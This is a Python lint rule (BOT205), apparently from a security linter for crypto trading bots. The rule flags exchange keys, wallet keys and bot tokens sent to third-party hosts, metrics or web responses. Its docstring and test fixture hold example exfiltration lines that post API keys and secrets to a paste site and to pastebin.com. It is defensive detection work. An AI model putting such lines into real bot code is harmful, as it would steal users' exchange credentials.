"""BOT205: credentials sent to a host that is not their service's."""
from __future__ import annotations

import re
from typing import List, Optional, Tuple

from ...analysis import names
from ...analysis.dataflow import HTTP, METRICS, RESPONSE, SOCKET, DataFlow, SinkSite, Source, safe_label
from ...analysis.imports import dotted
from ...analysis.hosts import is_exchange_host, is_known_service_host, is_local_host, is_notification_host
from ...model import Confidence, Severity
from ._family import Bot2Rule, Report

_GENERIC_WORDS = frozenset(
    """api key secret token access auth client app user account password pass passphrase private
    bot webhook url id the my x http https www com net org io""".split()
)
NOTIFICATION = "notification"
THIRD_PARTY = "third-party"


def _words(label: str) -> List[str]:
    return [w for w in names.words(label) if w]


def _belongs(src: Source, host: str) -> bool:
    """A service's own key going to that service (``ETHERSCAN_API_KEY`` to api.etherscan.io)."""
    parts = set(re.split(r"[.\-]", host.lower()))
    return any(len(w) >= 4 and w not in _GENERIC_WORDS and w in parts for w in _words(src.label))


def _exfil_grade(src: Source) -> bool:
    """Credentials that have no business on any host but their exchange or wallet."""
    if src.obj or src.container:
        return True
    ws = set(_words(src.label)) | set(_words(src.origin))
    if src.kind in (names.PRIVATE_KEY, names.MNEMONIC, names.PASSWORD, names.BOT_TOKEN, names.WEBHOOK):
        return True
    if ws & names._EXCHANGE_WORDS or "ccxt" in src.origin:  # noqa: SLF001 - shared vocabulary
        return True
    if src.kind == names.EXCHANGE and ({"secret", "passphrase"} & ws):
        return True
    return False


# words in a URL's name saying it is not the exchange's API: where a bot reports, audits or
# collects (the URL itself comes from configuration, so its host is not known here)
_THIRD_PARTY_URL_WORDS = frozenset(
    """audit auditing telemetry analytics collector collect ingest backup report reporting monitor
    monitoring metrics stats tracking tracker license licence licensing activation health healthcheck
    heartbeat uptime beacon""".split())


def _third_party_url_name(site: SinkSite) -> Optional[str]:
    """The name of a request's URL (``config.audit_url``) when its words say another service's."""
    d = dotted(site.url) if site.url is not None else None
    ws = set(_words(d.rsplit(".", 1)[-1])) if d else set()
    if not ws & _THIRD_PARTY_URL_WORDS or ws & names._EXCHANGE_WORDS:  # noqa: SLF001 - shared vocabulary
        return None
    return safe_label(str(d), "a configured URL")


def _signing_grade(src: Source) -> bool:
    """What signs or spends: an exchange secret or passphrase, a wallet key or seed (a key id
    alone going to an unknown host is left to the host's judgement)."""
    if src.kind in (names.PRIVATE_KEY, names.MNEMONIC):
        return True
    return src.kind == names.EXCHANGE and bool({"secret", "passphrase"} & set(_words(src.label)))


def egress(flow: DataFlow, site: SinkSite, sources: List[Source]) -> Optional[Tuple[str, Report]]:
    """Where an HTTP request or socket send goes, judged by its host: (NOTIFICATION or
    THIRD_PARTY, the report), or None (an exchange, a local host, a service's own key)."""
    url_t = flow.url_taint(site)
    srcs = sources
    host = site.host
    if host is None:
        # unknown host: a webhook/bot URL tells us where it goes, or the URL's own name says it
        # is some other service's (``config.audit_url``, ``TELEMETRY_ENDPOINT``)
        named = _third_party_url_name(site)
        if named and not any(s.kind in (names.WEBHOOK, names.BOT_TOKEN) for s in url_t):
            srcs = [s for s in srcs if not (s.obj or s.container) and _signing_grade(s)]
            return (THIRD_PARTY, Report(site.node, srcs, f"reaches {site.what} to {named}, a URL not of an exchange "
                                        "by its name")) if srcs else None
        if not any(s.kind in (names.WEBHOOK, names.BOT_TOKEN) for s in url_t):
            return None
        srcs = [s for s in srcs if s.kind not in (names.WEBHOOK, names.BOT_TOKEN, names.TOKEN)]
        return (
            (NOTIFICATION, Report(site.node, srcs, f"reaches {site.what} (a notification webhook)")) if srcs else None
        )
    if is_exchange_host(host) or is_local_host(host):
        return None
    if is_notification_host(host):
        srcs = [
            s
            for s in srcs
            if s.kind not in (names.WEBHOOK, names.BOT_TOKEN)
            and not _belongs(s, host)
            # what a notification URL carries is the service's own credential, whatever its
            # kind says (``bot{self.token.get_secret_value()}`` is a SecretStr's): a message
            # goes in the body or the params
            and s not in url_t
        ]
        return (NOTIFICATION, Report(site.node, srcs, f"reaches {site.what} to {host}")) if srcs else None
    # a credential the module also gives its exchange client is that exchange's, whatever its name
    client_keys = {id(c.node) for _rec, creds in flow.credentialed_clients() for c in creds if c.node is not None}
    srcs = [
        s
        for s in srcs
        if not _belongs(s, host)
        and (_exfil_grade(s) or id(s.node) in client_keys)
        and not (is_known_service_host(host) and s.kind in (names.TOKEN, names.SECRET))
    ]
    return (THIRD_PARTY, Report(site.node, srcs, f"reaches {site.what} to third-party host {host}")) if srcs else None


# kinds a route has no business returning (an API token or password a route hands out is how
# logins work)
_RESPONSE_KINDS = frozenset({names.EXCHANGE, names.PRIVATE_KEY, names.MNEMONIC, names.BOT_TOKEN})


def _response(site: SinkSite, sources: List[Source]) -> Optional[Report]:
    """A route's response body: credentials of the bot read from configuration (not values the
    route generates and names like one: those are opaque assignments), and known to be
    credentials, not only named like them (``return get_exchange_api_keys()`` of a dashboard
    usually hands out masked records: a getter's name is weak evidence)."""
    srcs = [s for s in sources if s.kind in _RESPONSE_KINDS
            and not s.origin.startswith(("an assignment in", "a call to"))]
    return Report(site.node, srcs, f"is returned in {site.what}") if srcs else None


def _metrics(site: SinkSite, sources: List[Source]) -> Optional[Report]:
    """A metric's label value or info (Prometheus): every scraper of /metrics reads it."""
    return Report(site.node, sources, f"is exposed on the metrics endpoint by {site.what}")


class SecretSentToThirdParty(Bot2Rule):
    """## What it does
    Reports HTTP requests (requests, httpx, aiohttp, urllib) that carry an exchange credential,
    wallet key, seed phrase, password or bot token (in the URL, params, body or headers) to a
    host that is not an exchange's own (domain.md §3) and not the service the key belongs to.
    When the host is not known (the URL comes from configuration), an exchange secret or
    passphrase, wallet key or seed sent to a URL whose name says another service's
    (`config.audit_url`, `TELEMETRY_ENDPOINT`, `backup_url`, `HEALTHCHECK_URL`) is reported too.
    A session created or updated with credential headers or auth (`aiohttp.ClientSession(headers=
    {"X-MBX-APIKEY": key})`, `httpx.Client(auth=...)`, `s.headers.update(...)`) sends them with
    every request: one to a host that is not the exchange's is reported.  A generic `api_key`
    the module also gives its ccxt client is that exchange's key.  A credential used as a
    Prometheus label value or in an `Info` metric is reported as well: `/metrics` is served to
    whoever scrapes it.

    ## Why is this bad?
    This is how key-stealing "profit bots" work: the bot trades as promised and quietly posts
    the user's keys to a pastebin, a webhook or the author's server.  An exchange key has no
    business on any host but its exchange.

    ## Example
    ```python
    requests.post("https://paste.example.net/api", data={"k": API_KEY, "s": API_SECRET})
    ```

    ## Use instead
    ```python
    exchange = ccxt.binance({"apiKey": API_KEY, "secret": API_SECRET})  # only the exchange sees them
    ```

    A web route (FastAPI, Flask, Starlette, Quart, Sanic) that returns an exchange key, secret,
    wallet key, seed phrase or bot token in its response body is reported too: the response
    goes to whoever can reach the endpoint, a host the key's owner does not control (the same
    exposure as posting it there).  A masked key (`key[:4] + "***"`) or a flag
    (`{"has_key": bool(key)}`) is not reported, nor a value the route generates
    (`api_key = secrets.token_urlsafe()`, a login endpoint's access token).

    ## Known problems
    The host must be visible in the module (a literal URL or a module constant); requests to
    a computed URL are not judged.  A generic `api_key` sent to an unknown host is assumed to
    be that host's own API key and is not reported; keys named after an exchange, secrets,
    passphrases, wallet keys and seed phrases are.

    ## References
    - [CWE-201: Insertion of Sensitive Information Into Sent Data](https://cwe.mitre.org/data/definitions/201.html)
    """

    CODE = "BOT205"
    NAME = "secret-sent-to-third-party"
    SEVERITY = Severity.CRITICAL
    CONFIDENCE = Confidence.HIGH
    CWE = 201
    IN_TESTS = "lower"  # a network sink: what a test sends has left the machine (kept, one severity lower)
    MESSAGE = "Exchange credential sent to a third-party host"
    VALID = (
        'import os, requests\nkey = os.environ["ETHERSCAN_API_KEY"]\n'
        'requests.get("https://api.etherscan.io/api", params={"apikey": key})\n',
        'import os, requests\nkey = os.environ["BINANCE_API_KEY"]\n'
        'requests.get("https://api.binance.com/api/v3/account", headers={"X-MBX-APIKEY": key})\n',
    )
    INVALID = (
        'import os, requests\nkey = os.environ["BINANCE_API_KEY"]\nsecret = os.environ["BINANCE_API_SECRET"]\n'
        'requests.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": f"{key}:{secret}"})\n',
    )

    SINKS = (HTTP, SOCKET, RESPONSE, METRICS)

    def judge(self, flow: DataFlow, site: SinkSite, sources: List[Source]) -> Optional[Report]:
        if site.kind == RESPONSE:
            return _response(site, sources)
        if site.kind == METRICS:
            return _metrics(site, sources)
        verdict = egress(flow, site, sources)
        return verdict[1] if verdict is not None and verdict[0] == THIRD_PARTY else None
